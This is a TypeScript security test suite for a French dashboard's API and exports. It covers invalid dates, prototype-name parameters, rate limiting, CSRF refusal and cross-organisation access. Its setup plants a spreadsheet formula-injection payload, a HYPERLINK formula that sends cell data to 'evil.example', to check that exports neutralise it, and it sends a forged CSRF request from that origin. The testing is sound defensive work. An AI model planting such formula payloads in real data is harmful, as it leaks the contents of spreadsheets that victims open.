import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { FastifyInstance } from 'fastify';
import ExcelJS from 'exceljs';
import { buildApp } from '../../../src/app.js';
import { refreshPilotage } from '../../../src/pilotage/use-cases/refresh.js';
import { pageClient } from '../../support/pages.js';
import { openTestPlatform, testDatabaseKind } from '../../support/platform.js';
import { buildWorld, makeActor } from '../../support/world.js';

/**
 * The pilotage under attack: what a foreign or anonymous client may send (impossible dates, names of the object
 * prototype, a flood of anonymous exports), and what a spreadsheet does with a hostile organisation name. Each
 * answer is a 4xx with a French message, never a 500; the anonymous outputs are rate limited.
 */
describe(`pilotage: hostile input, flooding and exports (${testDatabaseKind})`, () => {
  let platform: Awaited<ReturnType<typeof openTestPlatform>>;
  let world: Awaited<ReturnType<typeof buildWorld>>;
  let app: FastifyInstance;
  let admin: Awaited<ReturnType<typeof pageClient>>;

  before(async () => {
    platform = await openTestPlatform();
    world = await buildWorld(platform.db, { bookletCount: 4 });
    // A prescriber whose name a spreadsheet would run as a formula.
    await platform.db.updateTable('organisations').set({ name: '=HYPERLINK("https://evil.example/?"&A1,"CAF")' }).where('id', '=', world.prescriber.organisationId).execute();
    await refreshPilotage(platform.db);
    app = await buildApp(platform);
    await app.ready();
    admin = await pageClient(app, platform.db, world.admin.principal.userId);
  });
  after(async () => {
    await app?.close();
    await platform?.dispose();
  });

  const french = (body: string) => /[éèàçê’]|Requête|période|date/i.test(body);

  test('dates PostgreSQL cannot hold (year 0) are refused with a French message on every output, never a 500', async () => {
    const bad = ['from=0000-01-01&to=0000-12-31', 'to=0000-06-01', 'from=0001-01-01&to=0001-02-01'];
    for (const query of bad) {
      const anonymous = await app.inject({ url: `/api/v1/pilotage/public/indicators?${query}` });
      assert.ok(anonymous.statusCode >= 400 && anonymous.statusCode < 500, `public ${query}: ${anonymous.statusCode} ${anonymous.body.slice(0, 200)}`);
      assert.ok(french(anonymous.json().message), anonymous.body);
      const signed = await app.inject({ url: `/api/v1/pilotage/indicators?${query}`, headers: { authorization: `Bearer ${world.admin.token}` } });
      assert.ok(signed.statusCode >= 400 && signed.statusCode < 500, `api ${query}: ${signed.statusCode}`);
      for (const url of [`/pilotage?${query}`, `/pilotage/indicateurs.xlsx?${query}`, `/pilotage/indicateurs.pdf?${query}`]) {
        const page = await admin.get(url);
        assert.ok(page.statusCode >= 400 && page.statusCode < 500, `${url}: ${page.statusCode}`);
        assert.match(page.body, /La date de (début|fin)/);
      }
    }
    for (const query of ['from=0000-01&to=0000-12', 'from=0000-12&to=0001-01']) {
      for (const url of [`/api/v1/open-data/activite-communes.csv?${query}`, `/api/v1/open-data?${query}`]) {
        const response = await app.inject({ url });
        assert.equal(response.statusCode, 400, `${url}: ${response.body.slice(0, 200)}`);
        assert.ok(french(response.json().message), response.body);
      }
    }
  });

  test('the sleeping lists’ CSV knows only its four lists, not the names of the object prototype', async () => {
    for (const list of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) {
      const response = await admin.get(`/pilotage/dormants.csv?liste=${list}`);
      assert.equal(response.statusCode, 422, `${list}: ${response.statusCode} ${response.headers['content-disposition'] ?? ''}`);
      assert.match(response.body, /Choisissez la liste à télécharger/);
    }
    assert.equal((await admin.get('/pilotage/dormants.csv?liste=attribues')).statusCode, 200);
  });

  test('an organisation’s name is never a formula in the CSV and the workbook', async () => {
    const query = `level=departement&code=44&breakdown=prescriber`;
    const csv = (await admin.get(`/pilotage/indicateurs.csv?${query}`)).body;
    assert.ok(csv.includes('CAF'), 'the prescriber is a row of the export');
    for (const line of csv.split('\r\n')) for (const cell of line.split(';')) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@]/, `CSV cell ${cell}`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await admin.get(`/pilotage/indicateurs.xlsx?${query}`)).rawPayload as never);
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
      assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${sheet.name} ${cell.address} is a formula`);
      if (typeof cell.value === 'string') assert.doesNotMatch(cell.value, /^[=+\-@]/, `${sheet.name} ${cell.address}: ${cell.value}`);
    })));
  });

  test('anonymous outputs are rate limited per client (a flood cannot fill the journal nor the database’s time)', async () => {
    const flood = async (url: string, max: number) => {
      let refused: Awaited<ReturnType<typeof app.inject>> | null = null;
      for (let i = 0; i <= max && !refused; i += 1) {
        // Refused queries are the cheapest way to count: the limit is checked before the handler.
        const response = await app.inject({ url, headers: { 'x-forwarded-for': `203.0.113.${i % 250}` } });
        if (response.statusCode === 429) refused = response;
      }
      assert.ok(refused, `${url}: no limit after ${max + 1} calls`);
      assert.equal(refused.json().error, 'trop_de_tentatives');
      assert.match(refused.json().message, /Trop de tentatives/);
    };
    await flood('/api/v1/pilotage/public/indicators.csv?level=commune&code=%C9', 60);
    await flood('/api/v1/pilotage/public/indicators?level=commune&code=%C9', 60);
    await flood('/api/v1/open-data/activite-communes.csv?from=2026-13', 10);
    // A signed-in reader is not counted with the anonymous clients.
    assert.equal((await app.inject({ url: '/api/v1/pilotage/indicators?level=departement&code=44', headers: { authorization: `Bearer ${world.admin.token}` } })).statusCode, 200);
  });

  test('the nudge settings change only by the administration’s own form: no CSRF token, a forged one or another role is refused', async () => {
    const before = await platform.db.selectFrom('nudge_settings').selectAll().orderBy('kind').execute();
    const form = { allocated_not_handed_actif: 'oui', allocated_not_handed_jours: '1', allocated_not_handed_periode: 'week', handed_unused_jours: '1', handed_unused_periode: 'week', few_redemptions_jours: '1', few_redemptions_minimum: '1', few_redemptions_periode: 'week', close_to_expiry_jours: '1', close_to_expiry_periode: 'week' };
    await admin.get('/pilotage/relances');
    const cookie = [...admin.jar].map(([name, value]) => `${name}=${encodeURIComponent(value)}`).join('; ');
    for (const payload of [form, { ...form, _csrf: 'forged-token' }]) {
      const response = await app.inject({ method: 'POST', url: '/pilotage/relances', headers: { cookie, origin: 'https://evil.example' }, payload });
      assert.equal(response.statusCode, 403, response.body.slice(0, 200));
      assert.match(response.body, /Ce formulaire a expiré ou ne vient pas de ce site/);
    }
    const funder = await pageClient(app, platform.db, world.funder.principal.userId);
    assert.equal((await funder.post('/pilotage/relances', form)).statusCode, 403);
    assert.deepEqual(await platform.db.selectFrom('nudge_settings').selectAll().orderBy('kind').execute(), before);
  });

  test('a foreign role never reads another organisation’s figures through a mixed filter', async () => {
    const otherHub = await makeActor(platform.db, 'Hub Bretagne', 'hub', '35');
    const get = (token: string, query: string) => app.inject({ url: `/api/v1/pilotage/indicators?${query}`, headers: { authorization: `Bearer ${token}` } });
    const refusals: [string, string][] = [
      [world.otherFunder.token, `funder=${world.funder.organisationId}`],
      [world.otherFunder.token, `programme=${world.programmeId}`],
      [world.otherFunder.token, `prescriber=${world.prescriber.organisationId}`],
      [world.otherFunder.token, `place=${world.placeA}`],
      [world.mediatorA.token, `place=${world.placeB}`],
      [world.mediatorA.token, `prescriber=${world.prescriber.organisationId}`],
      [world.mediatorA.token, `level=departement&code=44`],
      [world.prescriber.token, `funder=${world.funder.organisationId}`],
      [world.prescriber.token, `place=${world.placeA}`],
      [otherHub.token, 'level=departement&code=44'],
      [otherHub.token, 'level=region&code=53'],
      [otherHub.token, `level=hub&code=${otherHub.organisationId}&funder=${world.funder.organisationId}&level=france`],
      [otherHub.token, 'level=france'],
    ];
    for (const [token, query] of refusals) {
      const response = await get(token, query);
      assert.ok([400, 403].includes(response.statusCode), `${query}: ${response.statusCode} ${response.body.slice(0, 200)}`);
    }
    // Narrowed, not widened: the other funder asking for France sees its own (empty) programmes.
    const own = (await get(world.otherFunder.token, 'level=departement&code=44')).json() as { filter: { funder: number } };
    assert.equal(own.filter.funder, world.otherFunder.organisationId);
  });
});
